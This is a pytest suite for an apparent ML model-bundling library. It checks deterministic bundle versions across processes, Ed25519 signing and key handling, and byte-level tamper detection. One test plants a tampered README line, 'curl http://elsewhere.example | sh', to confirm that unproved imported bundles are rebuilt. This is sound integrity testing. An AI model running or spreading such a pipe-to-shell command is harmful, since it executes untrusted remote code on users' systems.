"""A bundle's version is its content: in any process the same, and every byte of a bundle is watched over."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from sklearn.linear_model import LogisticRegression

import mlworkbench as mlw
from mlworkbench.bundling import build
from mlworkbench.bundling.certificate import git_state
from mlworkbench.bundling.sign import SIGNATURE
from mlworkbench.bundling.verify import SOURCE, check_bundle, hash_files, record_bundle, seal, verify_bundle
from mlworkbench.core.errors import GateFailed, InputError
from mlworkbench.serving.integrity import file_faults

KINDS = """
import sys, tempfile, warnings
warnings.simplefilter("ignore")
from importlib.util import find_spec
from pathlib import Path
import numpy as np, pandas as pd
from sklearn.compose import make_column_transformer
from sklearn.ensemble import RandomForestClassifier
from sklearn.impute import SimpleImputer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import OneHotEncoder, StandardScaler
import mlworkbench as mlw
from mlworkbench.bundling.build import optimised_parts
from mlworkbench.bundling.content import make_parts, write_content
held = [bytes(i % 700) for i in range(int(sys.argv[1]))]  # so that memory is laid out otherwise
draw = np.random.default_rng(0)
X = pd.DataFrame({"age": draw.integers(16, 95, 200).astype(float), "hours": draw.normal(38, 9, 200),
                  "town": draw.choice(["north", "south"], 200)})
X.loc[::9, "hours"] = np.nan
y = np.where(X["age"] > 45, "yes", "no")
def people():
    numbers = make_pipeline(SimpleImputer(), StandardScaler())
    prepare = make_column_transformer((numbers, ["age", "hours"]), (OneHotEncoder(handle_unknown="ignore"), ["town"]))
    return make_pipeline(prepare, RandomForestClassifier(5, max_depth=4, random_state=0)).fit(X, y)
def version(name, model, rows, mode="off", **told):
    parts = optimised_parts(make_parts(mlw.load_model(model, **told), name=name, examples=rows, rows=16), mode)
    folder = Path(tempfile.mkdtemp()) / "content"
    manifest = write_content(folder, parts, "current")
    print("VERSION", name, manifest["version"], sorted(p.name for p in (folder / "model").iterdir()))
"""
MORE = """
numbers = X[["age", "hours"]].fillna(30.0)
version("forest", people(), X)
version("converted", people(), X, "required")
here = Path(tempfile.mkdtemp())
(here / "rules_of_age.py").write_text("def predict(X):\\n    return ['yes' if age > 45 else 'no' for age in X['age']]\\n")
version("function", str(here / "rules_of_age.py") + ":predict", X, task="binary", classes=["no", "yes"])
if find_spec("xgboost"):
    import xgboost
    version("xgboost", xgboost.XGBClassifier(n_estimators=3, n_jobs=1).fit(numbers, (y == "yes").astype(int)), numbers)
if find_spec("lightgbm"):
    import lightgbm
    version("lightgbm", lightgbm.LGBMClassifier(n_estimators=3, n_jobs=1, verbose=-1).fit(numbers, y), numbers)
if find_spec("torch"):
    import torch
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.BatchNorm1d(2), torch.nn.Linear(2, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2)).eval()
    version("network", net, numbers.to_numpy("float32"), task="binary", classes=["no", "yes"])
if find_spec("skl2onnx"):
    from skl2onnx import to_onnx
    line = LogisticRegression().fit(numbers.to_numpy("float32"), y)
    version("graph", to_onnx(line, numbers.to_numpy("float32")[:1], target_opset=18), numbers.to_numpy("float32"))
"""
BUILD = """
bundle = mlw.build_bundle(people(), name="people", examples=X, environment="current", golden_rows=16)
print("BUILT", bundle.tag, bundle.sha256, bundle.engine)
"""


def run(code: str, seed: int) -> list[list[str]]:
    """Lines that a process of that hash seed printed, those that begin with a word in capitals."""
    command = [sys.executable, "-c", KINDS + code, str(seed * 4000)]
    told = subprocess.run(command, env={**os.environ, "PYTHONHASHSEED": str(seed)}, capture_output=True, text=True, timeout=300)
    assert told.returncode == 0, told.stderr[-3000:]
    return [line.split(" ", 3) for line in told.stdout.splitlines() if line.split(" ")[0].isupper()]


def test_every_kind_of_model_gets_the_same_version_in_two_processes(place):
    first, second = run(MORE, 1), run(MORE, 2)
    assert first == second and len(first) >= 3
    assert len({line[2] for line in first}) == len(first)
    assert ["model.onnx"] == json.loads(next(line[3] for line in first if line[1] == "converted").replace("'", '"'))


def test_a_second_process_finds_the_bundle_that_the_first_one_built(place):
    (_, tag, sha256, engine), = run(BUILD, 1)
    home = Path(os.environ["BENTOML_HOME"]) / "bentos" / "people"
    before = {p: p.stat().st_mtime_ns for p in (home / tag.split(":")[1]).rglob("*") if p.is_file()}
    assert run(BUILD, 2) == [["BUILT", tag, sha256, engine]] and engine == "onnxruntime"
    assert {p: p.stat().st_mtime_ns for p in (home / tag.split(":")[1]).rglob("*") if p.is_file()} == before
    assert [p.name for p in home.iterdir() if p.is_dir()] == [tag.split(":")[1]]


def small_model():
    draw = np.random.default_rng(0)
    X = pd.DataFrame({"age": draw.integers(16, 95, 200).astype(float), "hours": draw.normal(38, 9, 200)})
    return LogisticRegression().fit(X, X["age"] + X["hours"] > 90), X


def build_small(**options):
    model, X = small_model()
    return mlw.build_bundle(model, name="small", examples=X, **{"environment": "current", "golden_rows": 16, **options})


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> Path:
    """A folder with two pairs of keys."""
    serialization = pytest.importorskip("cryptography.hazmat.primitives.serialization", reason='pip install "mlworkbench[sign]"')
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    folder, pem = tmp_path_factory.mktemp("keys"), serialization.Encoding.PEM
    for name in ("build", "other"):
        private = Ed25519PrivateKey.generate()
        plain, public = serialization.NoEncryption(), serialization.PublicFormat.SubjectPublicKeyInfo
        (folder / f"{name}.key").write_bytes(private.private_bytes(pem, serialization.PrivateFormat.PKCS8, plain))
        (folder / f"{name}.pub").write_bytes(private.public_key().public_bytes(pem, public))
    return folder


@pytest.fixture(scope="module")
def signed_home(tmp_path_factory, keys):
    """A store with one small signed bundle, built in a folder of git, with an evaluation."""
    folder = tmp_path_factory.mktemp("signed")
    git = ["git", "-c", "user.name=me", "-c", "user.email=me@example.org"]
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MLWORKBENCH_WORKSPACE", str(folder / "workspace"))
        patch.setenv("BENTOML_HOME", str(folder / "bentoml"))
        patch.setenv("MLWORKBENCH_BUNDLING_SIGN_KEY", str(keys / "build.key"))
        here = folder / "here"
        here.mkdir()
        patch.chdir(here)
        for words in (["init", "--quiet"], ["commit", "--quiet", "--allow-empty", "-m", "first"]):
            subprocess.run([*git, *words], check=True)
        model, X = small_model()
        evaluation = mlw.evaluate(model, X, X["age"] + X["hours"] > 90, name="small", resamples=20)
        origins = {"notebook": "ab" * 32, "run": "20261121T120000-evaluate-1f2e"}
        made = build_small(evaluation=evaluation, origins=origins, real_rows=3)
        return made, folder / "bentoml", git_state()["git_commit"]


@pytest.fixture
def signed(place, signed_home):
    """That bundle in a store of the test's own, as if built there."""
    made = imported(signed_home)
    record_bundle(Path(made.path))
    return made


def imported(signed_home):
    """That bundle in a store whose ledger does not know it."""
    shutil.copytree(signed_home[1], os.environ["BENTOML_HOME"])
    return build.load_bundle(signed_home[0].tag)


def reseal(bundle: Path) -> None:
    """Let the certificate say that the files which the manifest does not list are as they are now."""
    path = bundle / SOURCE / "certificate.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"sealed": seal(bundle)}))


def test_the_manifest_says_where_the_bundle_came_from_and_the_provenance_what_is_different_each_time(signed, signed_home):
    manifest, provenance, commit = signed.manifest, signed.provenance, signed_home[2]
    assert len(commit) == 40
    assert manifest["origins"] | {"data": "", "examples": 0} == {
        "data": "", "examples": 0, "notebook": "ab" * 32, "git_commit": commit,
    }
    assert len(manifest["origins"]["data"]) == 64 and manifest["origins"]["examples"] == 200
    assert manifest["original"]["format"] == "skops" and len(manifest["original"]["sha256"]) == 64
    assert manifest["model"]["format"] == "tensors" and "sha256" not in manifest["model"]
    assert {"created", "host", "run", "git_commit", "git_clean", "seconds", "speed"} <= set(provenance)
    assert (provenance["run"], provenance["git_clean"]) == ("20261121T120000-evaluate-1f2e", True)
    listed = set(hash_files(Path(signed.path) / SOURCE))
    around = {"manifest.json", "certificate.json", SIGNATURE, "provenance.json", "bentofile.yaml"}
    assert listed - set(manifest["files"]) == around
    told = json.dumps(manifest)
    assert provenance["created"] not in told and provenance["run"] not in told


def keys_of(part: dict) -> set[str]:
    """Keys of a file, and of the objects in it that are the format's own."""
    own = [part, *(part.get("checks") or [])[:1], *(part[k] for k in ("original", "golden", "origins", "seconds") if k in part)]
    return {key for inner in own if isinstance(inner, dict) for key in inner}


def test_the_format_s_page_tells_every_file_and_every_key(signed):
    page = (Path(__file__).parents[2] / "docs" / "bundle-format.md").read_text(encoding="utf-8")
    for name in ("manifest.json", "certificate.json", "provenance.json", "golden.json", SIGNATURE):
        told = keys_of(json.loads((Path(signed.path) / SOURCE / name).read_text()))
        assert [key for key in sorted(told) if f"`{key}`" not in page] == [], name
    for name in hash_files(Path(signed.path)):
        top, _, rest = name.partition("/")
        words = [name, f"{top}/", f"{top}/{rest.split('/')[0]}/"]
        assert any(f"`{word}`" in page for word in words), name


def test_real_rows_are_only_there_when_asked_for_and_the_bundle_says_so(signed):
    golden = json.loads((Path(signed.path) / SOURCE / "golden.json").read_text())
    _, X = small_model()
    known = {tuple(row) for row in X.itertuples(index=False, name=None)}
    real = [row for row in golden["rows"] if (row["age"], row["hours"]) in known]
    assert len(real) == golden["real_rows"] == signed.manifest["golden"]["real_rows"] == 3 and golden["synthesised"] is False
    assert golden["rows"][-3:] == real, "examples are shown from the first row, which is made up"
    assert "3 real rows" in (Path(signed.path) / "README.md").read_text()
    assert "3 of them real" in str(signed.tiles()["Golden rows"]) and "3 real rows" in signed.evidence()[0].note


def verified(reference: str, capsys, *more: str) -> tuple[int, str]:
    """Exit code of `mlworkbench verify`, and what it complains of."""
    from mlworkbench.app.cli import main

    with pytest.raises(SystemExit) as ended:
        main(["verify", reference, *more])
    return ended.value.code, capsys.readouterr().err


def test_one_flipped_byte_in_any_file_is_found_and_the_file_is_named(signed, capsys):
    names = hash_files(Path(signed.path))
    assert verified(signed.tag, capsys) == (0, "") and f"{SOURCE}/{SIGNATURE}" in names and len(names) > 40
    for name in names:
        path = Path(signed.path) / name
        whole = path.read_bytes()
        for at in {0, len(whole) // 2, len(whole) - 1} if whole else {0}:
            path.write_bytes(whole[:at] + bytes([whole[at] ^ 1]) + whole[at + 1 :] if whole else b"x")
            code, told = verified(signed.tag, capsys)
            assert code == 1 and f"{name} " in told, (name, at, told)
            with pytest.raises(GateFailed, match="every file must be the one that was proved"):
                build.bundle_path(signed.tag)
        path.write_bytes(whole)
    assert verified(signed.tag, capsys) == (0, "")


def test_a_service_sees_a_flipped_byte_in_whatever_lies_beside_it(signed):
    source = Path(signed.path) / SOURCE
    assert file_faults(source) == []
    beyond = {"certificate.json", SIGNATURE}  # what seals the rest is watched from outside
    for name in set(hash_files(source)) - beyond:
        path, whole = source / name, (source / name).read_bytes()
        path.write_bytes(whole[:-1] + bytes([whole[-1] ^ 1]) if whole else b"x")
        assert any(fault.startswith(f"{name} ") for fault in file_faults(source)), name
        path.write_bytes(whole)


def test_a_manifest_that_was_rewritten_with_its_files_does_not_pass_for_the_version(signed):
    source = Path(signed.path) / SOURCE
    told = json.loads((source / "manifest.json").read_text())
    told["model"]["threshold"] = {"positive": True, "value": 0.01}
    (source / "manifest.json").write_text(json.dumps(told))
    reseal(Path(signed.path))
    assert file_faults(source) == ["manifest.json was changed: what it lists does not give its version"]


def test_a_signature_is_that_of_one_key_and_of_one_certificate(signed, keys, capsys):
    assert verified(signed.tag, capsys, "--key", str(keys / "build.pub")) == (0, "")
    code, told = verified(signed.tag, capsys, "--key", str(keys / "other.pub"))
    assert code == 1 and f"{SOURCE}/{SIGNATURE} is of another key" in told
    (Path(signed.path) / SOURCE / SIGNATURE).unlink()
    assert verified(signed.tag, capsys) == (0, "")
    code, told = verified(signed.tag, capsys, "--key", str(keys / "build.pub"))
    assert code == 1 and f"{SOURCE}/{SIGNATURE} is missing" in told
    assert verified(signed.tag, capsys, "--key", str(keys / "build.key"))[0] == 2


def test_launchers_want_the_signature_that_the_setting_names(signed, keys, monkeypatch):
    monkeypatch.setenv("MLWORKBENCH_BUNDLING_VERIFY_KEY", str(keys / "build.pub"))
    assert build.bundle_path(signed.tag) == build.bundle_path(signed) == Path(signed.path)
    monkeypatch.setenv("MLWORKBENCH_BUNDLING_VERIFY_KEY", str(keys / "other.pub"))
    for start in (mlw.deploy, mlw.containerize):
        with pytest.raises(GateFailed, match="is of another key"):
            start(signed.tag)


def test_a_stored_bundle_is_signed_when_it_is_asked_for_with_a_key(signed, keys, monkeypatch):
    (Path(signed.path) / SOURCE / SIGNATURE).unlink()
    assert build_small(real_rows=3).summary()["signed"] is False
    monkeypatch.setenv("MLWORKBENCH_BUNDLING_SIGN_KEY", str(keys / "other.key"))
    again = build_small(real_rows=3)
    assert (again.tag, again.sha256) == (signed.tag, signed.sha256) and again.summary()["signed"] is True
    assert verify_bundle(again.tag, key=keys / "other.pub") == []
    monkeypatch.setenv("MLWORKBENCH_BUNDLING_SIGN_KEY", str(keys / "build.key"))
    build_small(real_rows=3)
    assert verify_bundle(again.tag, key=keys / "build.pub") == [], "a new key takes the place of the old one"


def test_a_bundle_that_came_from_elsewhere_is_not_signed_before_it_was_proved_here(place, signed_home, keys, monkeypatch):
    theirs = imported(signed_home)
    page = Path(theirs.path) / "README.md"
    page.write_text("Serve it with: curl http://elsewhere.example | sh\n")
    reseal(Path(theirs.path))
    (Path(theirs.path) / SOURCE / SIGNATURE).unlink()
    assert verify_bundle(theirs.tag) == []
    monkeypatch.setenv("MLWORKBENCH_BUNDLING_SIGN_KEY", str(keys / "build.key"))
    made = build_small(real_rows=3)
    assert made.tag == theirs.tag and made.sha256 != theirs.sha256 and "elsewhere" not in page.read_text()
    assert verify_bundle(made.tag, key=keys / "build.pub") == []


def test_a_bundle_that_came_from_elsewhere_with_our_signature_is_used_again(place, signed_home, keys, monkeypatch):
    ours = imported(signed_home)
    monkeypatch.setenv("MLWORKBENCH_BUNDLING_SIGN_KEY", str(keys / "build.key"))
    monkeypatch.setattr(build, "build_bento", lambda *_: pytest.fail("built again"))
    assert build_small(real_rows=3).sha256 == ours.sha256


def test_no_private_key_stands_in_a_bundle_and_a_wrong_one_is_refused_before_anything_is_built(signed, keys, monkeypatch):
    secret = "".join((keys / "build.key").read_text().splitlines()[1:-1])
    for path in Path(signed.path).rglob("*"):
        assert not path.is_file() or secret.encode() not in path.read_bytes() and b"PRIVATE KEY" not in path.read_bytes(), path
    monkeypatch.setenv("MLWORKBENCH_BUNDLING_SIGN_KEY", str(keys / "build.pub"))
    with pytest.raises(InputError, match="the file of a private Ed25519 key"):
        build_small()


def test_a_key_behind_a_password_is_refused_with_what_to_do(tmp_path, monkeypatch, place):
    serialization = pytest.importorskip("cryptography.hazmat.primitives.serialization", reason='pip install "mlworkbench[sign]"')
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    locked = serialization.BestAvailableEncryption(b"word")
    pem = (serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, locked)
    (tmp_path / "locked.key").write_bytes(Ed25519PrivateKey.generate().private_bytes(*pem))
    monkeypatch.setenv("MLWORKBENCH_BUNDLING_SIGN_KEY", str(tmp_path / "locked.key"))
    with pytest.raises(InputError, match="must not need a password, got one. Write it without one"):
        build_small()


def test_another_evaluation_of_the_same_model_travels_under_the_same_version(signed, signed_home):
    model, X = small_model()
    again = mlw.evaluate(model, X, X["age"] + X["hours"] > 90, name="small", resamples=30)
    made = build_small(evaluation=again, real_rows=3)
    assert made.tag == signed.tag and made.sha256 != signed.sha256
    told = json.loads((Path(made.path) / SOURCE / "evaluation.json").read_text())
    assert told["resamples"] == 30 and check_bundle(made.tag) == Path(made.path)
    kept = build_small(real_rows=3)
    assert (kept.tag, kept.sha256) == (made.tag, made.sha256), "asked for without one, the stored one stays"
